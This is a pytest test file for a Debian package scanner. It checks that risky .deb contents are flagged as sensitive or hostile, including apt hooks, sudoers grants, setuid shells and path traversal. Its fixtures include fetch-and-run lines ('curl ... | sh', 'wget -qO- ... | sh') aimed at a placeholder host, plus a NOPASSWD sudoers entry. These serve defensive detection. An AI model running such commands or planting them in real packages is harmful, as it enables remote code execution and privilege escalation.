"""Data-archive member rules and the whole-package scan, on .debs built in the test."""

from __future__ import annotations

import tarfile
from collections.abc import Callable
from pathlib import Path

import pytest

from aegis.ecosystems.apt.evidence.contents import (
    LIST_INFO_DIR_FROM,
    InstalledInfo,
    dpkg_info_dir,
    inspect_deb,
    installed_scripts,
    scan,
    scan_members,
)
from aegis.ecosystems.apt.evidence.debfile import Member
from tests.unit.evidence.conftest import Entry


def _member(
    path: str, mode: int = 0o644, kind: str = "file", content: bytes | None = None
) -> Member:
    return Member(path=path, mode=mode, type=kind, raw_path="." + path, content=content)


MEMBER_CASES = [
    (
        "apt-hook",
        _member("/etc/apt/apt.conf.d/99x", content=b'DPkg::Post-Invoke {"true";};\n'),
        "content.apt-hook",
        "sensitive",
        1,
    ),
    (
        "apt-hook-insecure",
        _member("/etc/apt/apt.conf.d/99x", content=b'Acquire::AllowInsecureRepositories "true";\n'),
        "content.apt-hook",
        "hostile",
        1,
    ),
    (
        "apt-hook-download",
        _member(
            "/etc/apt/apt.conf.d/99x",
            content=b'// hook\nDPkg::Post-Invoke { "curl -s http://x.invalid/a | sh"; };\n',
        ),
        "content.apt-hook",
        "hostile",
        2,
    ),
    ("apt-source", _member("/etc/apt/sources.list.d/x.list"), "content.apt-source", "sensitive", 0),
    ("apt-keyring", _member("/etc/apt/trusted.gpg.d/x.gpg"), "content.apt-keyring", "sensitive", 0),
    ("apt-pin", _member("/etc/apt/preferences.d/x"), "content.apt-pin", "sensitive", 0),
    (
        "sudoers-d",
        _member("/etc/sudoers.d/x", 0o440, content=b"%adm ALL=(ALL) ALL\n"),
        "content.sudoers",
        "sensitive",
        0,
    ),
    (
        "sudoers-nopasswd",
        _member("/etc/sudoers.d/x", 0o440, content=b"# c\nbob ALL=(ALL) NOPASSWD: ALL\n"),
        "content.sudoers",
        "hostile",
        2,
    ),
    ("cron-d", _member("/etc/cron.d/x"), "content.cron", "sensitive", 0),
    ("cron-daily", _member("/etc/cron.daily/x", 0o755), "content.cron", "sensitive", 0),
    ("unit-lib", _member("/lib/systemd/system/x.service"), "content.systemd-unit", "sensitive", 0),
    (
        "unit-usr",
        _member("/usr/lib/systemd/system/x.service"),
        "content.systemd-unit",
        "sensitive",
        0,
    ),
    (
        "unit-etc",
        _member("/etc/systemd/system/multi-user.target.wants/x.service", kind="symlink"),
        "content.systemd-unit",
        "sensitive",
        0,
    ),
    (
        "generator",
        _member("/usr/lib/systemd/system-generators/x", 0o755),
        "content.systemd-unit",
        "sensitive",
        0,
    ),
    ("init-d", _member("/etc/init.d/x", 0o755), "content.init-script", "sensitive", 0),
    ("ld-preload", _member("/etc/ld.so.preload"), "content.ld-preload", "hostile", 0),
    ("ld-conf", _member("/etc/ld.so.conf.d/x.conf"), "content.ld-config", "sensitive", 0),
    ("pam-d", _member("/etc/pam.d/sshd"), "content.pam", "sensitive", 0),
    (
        "pam-module",
        _member("/lib/x86_64-linux-gnu/security/pam_x.so"),
        "content.pam",
        "sensitive",
        0,
    ),
    ("profile-d", _member("/etc/profile.d/x.sh"), "content.profile-d", "sensitive", 0),
    ("udev", _member("/lib/udev/rules.d/99-x.rules"), "content.udev", "sensitive", 0),
    ("sshd", _member("/etc/ssh/sshd_config.d/x.conf"), "content.sshd", "sensitive", 0),
    (
        "authorized-keys",
        _member("/root/.ssh/authorized_keys"),
        "content.authorized-keys",
        "hostile",
        0,
    ),
    ("setuid", _member("/usr/bin/x", 0o4755), "content.setuid", "sensitive", 0),
    ("setgid", _member("/usr/bin/x", 0o2755), "content.setuid", "sensitive", 0),
    ("setuid-shell", _member("/usr/local/bin/bash", 0o4755), "content.setuid", "hostile", 0),
    ("setuid-world-writable", _member("/usr/bin/x", 0o4777), "content.setuid", "hostile", 0),
    ("world-writable", _member("/usr/share/x/f", 0o666), "content.world-writable", "sensitive", 0),
    ("device", _member("/dev/x", 0o600, kind="char"), "content.device", "hostile", 0),
    ("home", _member("/root/.x"), "content.home-dir", "sensitive", 0),
]


@pytest.mark.parametrize(
    ("member", "rule", "severity", "line"),
    [c[1:] for c in MEMBER_CASES],
    ids=[c[0] for c in MEMBER_CASES],
)
def test_member_rule(member: Member, rule: str, severity: str, line: int) -> None:
    found = {(f.rule, f.severity, f.line) for f in scan_members("p", [member])}
    assert (rule, severity, line) in found, found


@pytest.mark.parametrize(
    "member",
    [
        _member("/usr/bin/x", 0o755),
        _member("/usr/share/doc/x/README"),
        _member("/usr/share/doc/x", 0o755, kind="dir"),
        _member("/tmp", 0o1777, kind="dir"),
        _member("/usr/lib/x/link", 0o777, kind="symlink"),
        _member("/etc/x.conf"),
    ],
    ids=["exe", "doc", "dir", "sticky-tmp", "symlink", "etc-conf"],
)
def test_ordinary_members_produce_nothing(member: Member) -> None:
    assert scan_members("p", [member]) == ()


def test_path_traversal_member_is_hostile(make_deb: Callable[..., Path]) -> None:
    deb = make_deb(entries=[Entry("./../../etc/cron.d/evil", content=b"* * * * * root id\n")])
    found = {(f.rule, f.severity) for f in scan(deb, "fixture", "1.0", installed_info_dir=None)}
    assert ("content.path-traversal", "hostile") in found


def test_apt_hook_deb_without_scripts(dpkg_deb: Callable[..., Path]) -> None:
    deb = dpkg_deb(
        "hook",
        "1.0",
        files={"/etc/apt/apt.conf.d/99hook": ('DPkg::Post-Invoke { "echo hi"; };\n', 0o644)},
    )
    inspection = inspect_deb(deb, "hook", "1.0", installed_info_dir=None)
    assert inspection.scripts == ()
    assert [(f.rule, f.file, f.line) for f in inspection.findings] == [
        ("content.apt-hook", "/etc/apt/apt.conf.d/99hook", 1)
    ]


def test_setuid_deb(dpkg_deb: Callable[..., Path]) -> None:
    deb = dpkg_deb("suid", "1.0", files={"/usr/bin/suid": ("#!/bin/sh\n", 0o4755)})
    findings = scan(deb, "suid", "1.0", installed_info_dir=None)
    assert [(f.rule, f.file, f.severity) for f in findings] == [
        ("content.setuid", "/usr/bin/suid", "sensitive")
    ]
    assert "4755" in findings[0].excerpt


def test_benign_deb_has_no_findings_and_exposes_description(dpkg_deb: Callable[..., Path]) -> None:
    deb = dpkg_deb(
        "benign",
        "1.0",
        scripts={
            "postinst": '#!/bin/sh\nset -e\nmkdir -p "${DPKG_ROOT:-}/var/lib/x"\necho configured\n'
        },
        files={"/usr/share/doc/benign/README": ("hi\n", 0o644)},
    )
    inspection = inspect_deb(deb, "benign", "1.0", installed_info_dir=None)
    assert inspection.findings == ()
    assert inspection.description == "real fixture"
    assert inspection.scripts == ("postinst",)


def test_hostile_script_in_deb(make_deb: Callable[..., Path]) -> None:
    deb = make_deb(scripts={"preinst": "#!/bin/sh\nwget -qO- http://x.invalid | sh\n"})
    (f,) = scan(deb, "fixture", "1.0", installed_info_dir=None)
    assert (f.rule, f.file, f.line, f.severity) == ("script.download-exec", "preinst", 2, "hostile")


def test_identity_mismatch_is_hostile(make_deb: Callable[..., Path]) -> None:
    deb = make_deb(package="other", version="6.6")
    found = list(scan(deb, "fixture", "1.0", installed_info_dir=None))
    assert [(f.rule, f.severity) for f in found] == [("content.identity-mismatch", "hostile")]


def test_malformed_deb_is_one_hostile_finding(tmp_path: Path) -> None:
    bad = tmp_path / "bad.deb"
    bad.write_bytes(b"!<arch>\nthis is not an ar member header at all.................")
    (f,) = scan(bad, "x", "1", installed_info_dir=None)
    assert (f.rule, f.severity) == ("content.malformed", "hostile")


def _install(info: Path, stem: str, scripts: dict[str, str]) -> None:
    info.mkdir(parents=True, exist_ok=True)
    (info / f"{stem}.list").write_text("/.\n")
    for name, body in scripts.items():
        (info / f"{stem}.{name}").write_text(body)


def test_upgrade_with_changed_postinst_is_flagged(
    tmp_path: Path, make_deb: Callable[..., Path]
) -> None:
    info = dpkg_info_dir(tmp_path / "root")
    _install(info, "fixture", {"postinst": "#!/bin/sh\necho 1.0\n"})
    deb = make_deb(
        version="1.1",
        scripts={"postinst": "#!/bin/sh\necho 1.1\n", "prerm": "#!/bin/sh\nexit 0\n"},
    )
    findings = scan(deb, "fixture", "1.1", installed_info_dir=info)
    assert {(f.rule, f.file, f.line, f.severity) for f in findings} == {
        ("script.changed", "postinst", 2, "changed"),
        ("script.new", "prerm", 1, "changed"),
    }


def test_upgrade_with_identical_scripts_is_silent(
    tmp_path: Path, make_deb: Callable[..., Path]
) -> None:
    info = dpkg_info_dir(tmp_path / "root")
    _install(info, "fixture:amd64", {"postinst": "#!/bin/sh\necho same\n"})
    deb = make_deb(version="1.1", scripts={"postinst": "#!/bin/sh\necho same\n"})
    assert scan(deb, "fixture", "1.1", installed_info_dir=info, arch="amd64") == ()


def test_installed_scripts_not_installed_is_none(tmp_path: Path) -> None:
    assert installed_scripts(tmp_path, "nothing", None) is None
    _install(tmp_path, "pkg", {"prerm": "x"})
    assert installed_scripts(tmp_path, "pkg", "amd64") == {"prerm": b"x"}


@pytest.mark.parametrize("packages", [1, LIST_INFO_DIR_FROM], ids=["per-file", "listed"])
def test_a_plans_reader_of_the_info_dir_reads_what_each_file_check_reads(
    tmp_path: Path, packages: int
) -> None:
    _install(tmp_path, "plain", {"prerm": "p", "postinst": "i"})
    _install(tmp_path, "multi:amd64", {"postrm": "q"})
    _install(tmp_path, "multi", {"postrm": "unqualified"})
    (tmp_path / "ghost.prerm").write_text("no .list: not installed")
    info = InstalledInfo(tmp_path, packages)
    for package, arch in [("plain", None), ("plain", "all"), ("multi", "amd64"), ("ghost", None)]:
        assert info.scripts(package, arch) == installed_scripts(tmp_path, package, arch)
    assert info.scripts("multi", "amd64") == {"postrm": b"q"}
    assert info.scripts("ghost", None) is None
    assert InstalledInfo(tmp_path / "absent", packages).scripts("plain", None) is None


def test_hardlink_to_setuid_is_seen(make_deb: Callable[..., Path]) -> None:
    deb = make_deb(
        entries=[
            Entry("./usr/bin/a", 0o4755, content=b"x"),
            Entry("./usr/bin/b", 0o4755, kind=tarfile.LNKTYPE, linkname="./usr/bin/a"),
        ]
    )
    files = {f.file for f in scan(deb, "fixture", "1.0", installed_info_dir=None)}
    assert files == {"/usr/bin/a", "/usr/bin/b"}
